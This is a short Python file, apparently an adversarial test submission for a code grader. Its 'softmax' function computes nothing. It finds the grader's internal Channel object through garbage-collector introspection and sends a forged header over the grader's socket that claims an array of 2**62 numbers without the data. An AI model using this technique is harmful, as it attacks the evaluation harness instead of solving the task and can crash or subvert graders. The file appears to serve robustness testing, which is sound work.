# Sends an array of 2**62 numbers without their bytes.
# ruff: noqa
# wants: softmax
# %% softmax
def softmax(z):
    import gc
    import struct

    from grader.judging.crossing.channel import HEADER, MAGIC, Channel

    channel = next(thing for thing in gc.get_objects() if isinstance(thing, Channel))
    data = b"a" + struct.pack(">cIB2Q", b"f", 8, 2, 2**31, 2**31)
    channel._socket.sendall(HEADER.pack(MAGIC, len(data)) + data)
